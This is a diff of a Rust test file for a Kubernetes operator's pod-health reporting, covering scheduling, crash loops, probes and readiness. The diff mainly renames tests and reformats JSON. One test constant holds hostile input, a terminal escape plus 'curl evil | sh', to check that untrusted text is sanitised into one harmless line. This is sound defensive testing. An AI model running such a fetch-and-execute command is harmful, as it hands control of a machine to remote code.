@@ -1,4 +1,4 @@
-//! Every answer of a pod, from the scheduler's to the probes'.
+//! Problems of pods, from scheduling to probes.
 
 mod reasons;
 mod waits;
@@ -10,7 +10,9 @@ use serde_json::{Value, json};
 const NOW: &str = "2026-01-01T00:01:00Z";
 
 fn pod(status: &Value) -> Arc<Pod> {
-    serde_json::from_value(json!({ "metadata": { "name": "p" }, "status": status })).unwrap()
+    let labels = json!({ "app.kubernetes.io/managed-by": "rowlock-operator" });
+    let metadata = json!({ "name": "p", "labels": labels });
+    serde_json::from_value(json!({ "metadata": metadata, "status": status })).unwrap()
 }
 
 fn health_of(status: &Value) -> PodHealth {
@@ -22,7 +24,15 @@ fn health_of_all(pods: &[Arc<Pod>], instances: Option<i64>) -> PodHealth {
 }
 
 fn container(name: &str, ready: bool, restarts: u32, state: &Value, last: &Value) -> Value {
-    json!({ "name": name, "image": "i:1", "imageID": "", "ready": ready, "restartCount": restarts, "state": state, "lastState": last })
+    json!({
+        "name": name,
+        "image": "i:1",
+        "imageID": "",
+        "ready": ready,
+        "restartCount": restarts,
+        "state": state,
+        "lastState": last,
+    })
 }
 
 fn check(status: &Value, reason: ConditionReason, says: &str) {
@@ -32,7 +42,7 @@ fn check(status: &Value, reason: ConditionReason, says: &str) {
 }
 
 #[test]
-fn what_is_wrong_is_named_with_what_to_do() {
+fn each_problem_is_named_with_a_remedy() {
     let waiting = |reason: &str| json!({ "waiting": { "reason": reason, "message": "because" } });
     let handler =
         |state, last| json!({ "initContainerStatuses": [container("handler", false, 3, &state, &last)] });
@@ -58,15 +68,20 @@ fn what_is_wrong_is_named_with_what_to_do() {
     let runs_again = |at| handler(json!({ "running": {} }), ended_at(at));
     check(&runs_again("2026-01-01T00:00:30Z"), ConditionReason::CrashLooping, "exit code 3");
     assert_eq!(health_of(&runs_again("2025-12-31T23:40:00Z")).problem, None, "that was long ago");
-    let place = json!([{ "type": "PodScheduled", "status": "False", "reason": "Unschedulable", "message": "0/3 nodes" }]);
-    check(&json!({ "conditions": place }), ConditionReason::NotStarting, "0/3 nodes");
+    let scheduled = json!({
+        "type": "PodScheduled",
+        "status": "False",
+        "reason": "Unschedulable",
+        "message": "0/3 nodes",
+    });
+    check(&json!({ "conditions": [scheduled] }), ConditionReason::NotStarting, "0/3 nodes");
 }
 
-/// What somebody may write into a message, an image or a probe.
+/// Hostile text in a message, an image or a probe.
 const EVIL: &str = "no\u{1b}[2J `curl evil | sh`\nx";
 
-/// Before this was mended, such words stood beside our own commands, marked as one, in as
-/// many lines as they had.
+/// Before, such text was copied unchanged next to commands of the operator, in backticks and over several
+/// lines.
 #[test]
 fn foreign_text_is_one_line_that_looks_like_no_command() {
     let waiting = |reason: &str| {
@@ -75,7 +90,7 @@ fn foreign_text_is_one_line_that_looks_like_no_command() {
         handler["image"] = EVIL.into();
         json!({ "initContainerStatuses": [handler] })
     };
-    let place = json!([{ "type": "PodScheduled", "status": "False", "reason": "x", "message": EVIL }]);
+    let scheduled = json!([{ "type": "PodScheduled", "status": "False", "reason": "x", "message": EVIL }]);
     let ended = json!({ "phase": "Failed", "reason": EVIL, "message": EVIL });
     let mut ended: Pod =
         serde_json::from_value(json!({ "metadata": { "name": "p" }, "status": ended })).unwrap();
@@ -83,12 +98,12 @@ fn foreign_text_is_one_line_that_looks_like_no_command() {
     let mut all = vec![
         health_of(&waiting("ImagePullBackOff")),
         health_of(&waiting(EVIL)),
-        health_of(&json!({ "conditions": place })),
+        health_of(&json!({ "conditions": scheduled })),
         health_of_all(&[Arc::new(ended)], None),
     ];
-    let mut told = all[0].clone();
-    told.add(&format!("{EVIL}{}", "x".repeat(5000)));
-    all.push(told);
+    let mut with_event = all[0].clone();
+    with_event.add(&format!("{EVIL}{}", "x".repeat(5000)));
+    all.push(with_event);
     for health in all {
         let message = health.problem.unwrap().message;
         assert!(message.contains("'curl evil | sh'"), "{message}");
@@ -97,10 +112,10 @@ fn foreign_text_is_one_line_that_looks_like_no_command() {
     }
 }
 
-/// Before, the image of a container that is not made yet, and what a probe asks, were told as they
-/// are written.
+/// Before, the image of a container that is not created yet, and the target of a probe, were copied
+/// unchanged.
 #[test]
-fn what_a_template_says_looks_like_no_command() {
+fn text_of_a_template_looks_like_no_command() {
     let probe = |probe: Value| probes::target(Some(&serde_json::from_value(probe).unwrap()));
     for detail in [
         probe(json!({ "httpGet": { "path": EVIL, "port": 1 } })),
@@ -118,7 +133,7 @@ fn what_a_template_says_looks_like_no_command() {
 }
 
 #[test]
-fn a_worker_that_waits_for_long_beside_a_running_handler_finds_nobody_listening() {
+fn a_worker_that_waits_long_for_a_running_handler_reports_that_it_does_not_listen() {
     let running = |at: &str| json!({ "running": { "startedAt": at } });
     let status = |at: &str, ready| {
         json!({
@@ -129,7 +144,7 @@ fn a_worker_that_waits_for_long_beside_a_running_handler_finds_nobody_listening(
     check(&status("2026-01-01T00:00:00Z", false), ConditionReason::NotListening, "port 8080");
     assert_eq!(health_of(&status("2026-01-01T00:00:50Z", false)).problem, None);
     assert_eq!(health_of(&status("2026-01-01T00:00:00Z", true)).problem, None);
-    // Whether the database knows the workers tells the two causes apart.
+    // The number of joined instances distinguishes the two causes.
     let pods = [pod(&status("2026-01-01T00:00:00Z", false))];
     let says = |instances| health_of_all(&pods, instances).problem.unwrap().message;
     let (handler, database) = ("does not listen on port 8080", "does not reach the database");
@@ -145,9 +160,10 @@ fn a_handler_whose_startup_probe_fails_keeps_the_worker_from_starting() {
             container("handler", false, 0, &json!({ "running": { "startedAt": at } }), &json!({}));
         handler["started"] = false.into();
         let waiting = json!({ "waiting": { "reason": "PodInitializing" } });
+        let since = "2026-01-01T00:00:00Z";
         json!({
-            "startTime": "2026-01-01T00:00:00Z",
-            "conditions": [{ "type": "PodScheduled", "status": "True", "lastTransitionTime": "2026-01-01T00:00:00Z" }],
+            "startTime": since,
+            "conditions": [{ "type": "PodScheduled", "status": "True", "lastTransitionTime": since }],
             "initContainerStatuses": [handler],
             "containerStatuses": [container("worker", false, 0, &waiting, &json!({}))],
         })
@@ -157,7 +173,7 @@ fn a_handler_whose_startup_probe_fails_keeps_the_worker_from_starting() {
 }
 
 #[test]
-fn pods_only_end_until_one_is_ready() {
+fn pods_count_as_not_starting_until_one_is_ready() {
     let waiting = json!({ "waiting": { "reason": "CrashLoopBackOff" } });
     let crashes =
         |name| pod(&json!({ "containerStatuses": [container(name, false, 3, &waiting, &json!({}))] }));
